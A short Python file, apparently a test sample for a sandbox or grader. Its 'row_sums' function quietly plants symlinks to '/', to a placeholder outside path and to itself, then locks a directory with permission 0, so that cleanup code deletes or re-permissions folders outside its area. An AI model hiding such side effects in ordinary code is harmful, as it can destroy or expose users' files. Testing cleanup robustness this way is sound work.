# verdict: row_sums=passed, doubled=passed
"""Leaves links to other folders in its own, to have them deleted or given other rights."""

import os

OUTSIDE = "@outside@"


def row_sums(matrix):
    if os.path.lexists("out"):
        return matrix.sum(1)
    os.symlink(OUTSIDE, "out")
    os.symlink("/", "root")
    os.symlink(".", "loop")
    os.mkdir("closed")
    os.symlink(OUTSIDE, "closed/out")
    os.chmod("closed", 0)
    return matrix.sum(1)


def doubled(number):
    return 2 * number
